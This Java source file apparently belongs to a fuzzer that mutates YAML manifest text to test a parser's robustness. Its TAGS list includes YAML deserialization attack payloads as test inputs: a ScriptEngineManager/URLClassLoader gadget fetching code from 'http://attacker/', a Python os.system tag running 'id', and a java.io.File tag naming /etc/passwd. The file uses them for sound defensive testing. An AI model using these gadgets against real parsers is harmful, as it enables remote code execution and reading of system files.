package dev.logship.fuzz;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Edits of a manifest's YAML text: values, keys, lines, tags, anchors. Each is deterministic per Random. */
final class TextMutations {
    private static final Pattern KEY_VALUE = Pattern.compile("^(\\s*(?:-\\s+)?)([A-Za-z][\\w.-]*):(\\s*)(.*)$");
    static final List<String> WRONG_VALUES = List.of("[a, b]", "{x: 1}", "12345", "true", "~", "3.14", "''",
            "2001-12-14t21:59:43.10-05:00", "-1", "99999999999999999999999", ".inf", ".nan", "0x1F", "0o17",
            "[]", "{}", "- nested", "\"\\u0000\"", "\"\\uD800\"", "no", "1_000", "+12", "|\n  block\n", "null");
    static final List<String> TAGS = List.of(
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker/\"]]]]",
            "!custom value", "!custom", "!!python/object/apply:os.system [\"id\"]", "!<tag:yaml.org,2002:java.io.File> /etc/passwd",
            "!!binary aGVsbG8=", "!!set {a, b}", "!!omap [a: 1]", "!!str 42", "!!int notanumber", "!!float x", "!!bool maybe",
            "!!map [1]", "!!seq {a: 1}", "!vault secret/route", "!<!> x", "!e!tag%21 x");

    private TextMutations() {}

    /** Line numbers (0-based) of "key: value" lines, optionally only those with a value. */
    static List<Integer> keyLines(List<String> lines, boolean withValue) {
        List<Integer> found = new ArrayList<>();
        for (int i = 0; i < lines.size(); i++) {
            Matcher m = KEY_VALUE.matcher(lines.get(i));
            if (m.matches() && (!withValue || !m.group(4).isBlank())) {
                found.add(i);
            }
        }
        return found;
    }

    static List<String> lines(String text) {
        return new ArrayList<>(Arrays.asList(text.split("\n", -1)));
    }

    /** Replaces the value of a random key with {@code value}; returns false when no key line exists. */
    static boolean replaceValue(List<String> lines, Random random, String value) {
        List<Integer> keys = keyLines(lines, false);
        if (keys.isEmpty()) {
            return false;
        }
        int line = keys.get(random.nextInt(keys.size()));
        Matcher m = KEY_VALUE.matcher(lines.get(line));
        m.matches();
        lines.set(line, m.group(1) + m.group(2) + ": " + value);
        return true;
    }

    static String wrongType(String text, Random random) {
        List<String> lines = lines(text);
        replaceValue(lines, random, WRONG_VALUES.get(random.nextInt(WRONG_VALUES.size())));
        return String.join("\n", lines);
    }

    static String unknownTag(String text, Random random) {
        List<String> lines = lines(text);
        if (random.nextInt(5) == 0) {
            lines.add(0, random.nextBoolean() ? "%TAG ! tag:evil.example,2000:" : "%YAML 1.1");
            lines.add(1, "---");
        }
        replaceValue(lines, random, TAGS.get(random.nextInt(TAGS.size())));
        return String.join("\n", lines);
    }

    static String duplicateKey(String text, Random random) {
        List<String> lines = lines(text);
        List<Integer> keys = keyLines(lines, true);
        if (keys.isEmpty()) {
            return text + "\nkind: Cluster\nkind: LogForwarder\n";
        }
        int line = keys.get(random.nextInt(keys.size()));
        Matcher m = KEY_VALUE.matcher(lines.get(line));
        m.matches();
        String indent = m.group(1).replace('-', ' ');
        lines.add(line + 1, indent + m.group(2) + ": " + (random.nextBoolean() ? m.group(4) : "other"));
        return String.join("\n", lines);
    }

    static String deleteLine(String text, Random random) {
        List<String> lines = lines(text);
        List<Integer> keys = keyLines(lines, false);
        if (!keys.isEmpty()) {
            lines.remove((int) keys.get(random.nextInt(keys.size())));
        }
        return String.join("\n", lines);
    }

    static String swapKind(String text, Random random) {
        String[] kinds = {"Cluster", "LogForwarder", "logforwarder", "Clustr", "Deployment", "", "[Cluster]"};
        String kind = kinds[random.nextInt(kinds.length)];
        String swapped = text.replaceFirst("(?m)^kind: .*$", "kind: " + kind);
        return random.nextInt(4) == 0 ? swapped.replace("logship.dev/v1", random.nextBoolean() ? "logship.dev/v2" : "v1") : swapped;
    }

    static String controlCharacters(String text, Random random) {
        String[] odd = {"\t", "\r", "\u0085", "\u2028", "\u0007", "\uFEFF", "\uFFFF", "\uD83D\uDE00", "\u202E", "\u0000",
                "\\", "\"", "'", ":", "#", "&", "*", "!", "|", ">", "%", "@", "`", "\r\n", "\u00A0", "\u001B[31m"};
        StringBuilder out = new StringBuilder(text);
        for (int i = 1 + random.nextInt(4); i > 0; i--) {
            out.insert(random.nextInt(out.length() + 1), odd[random.nextInt(odd.length)]);
        }
        return out.toString();
    }

    static String indentation(String text, Random random) {
        List<String> lines = lines(text);
        int line = random.nextInt(lines.size());
        String[] prefixes = {" ", "   ", "\t", ""};
        String current = lines.get(line);
        lines.set(line, random.nextBoolean() ? prefixes[random.nextInt(prefixes.length)] + current : current.stripLeading());
        return String.join("\n", lines);
    }

    static String documents(String text, Random random) {
        List<String> lines = lines(text);
        String[] markers = {"---", "...", "--- |", "--- !custom", "---\n---", "--- []", "--- 42"};
        lines.add(random.nextInt(lines.size() + 1), markers[random.nextInt(markers.length)]);
        return String.join("\n", lines);
    }

    static String numbers(String text, Random random) {
        String[] extremes = {"0", "-0", "2147483648", "-2147483649", "9223372036854775808", "1e400", "0.5", "1_0", "0b101", "010"};
        return text.replaceAll("(?m)(cpu|memory|memoryReservation|hostPort): .*$",
                "$1: " + extremes[random.nextInt(extremes.length)]);
    }
}
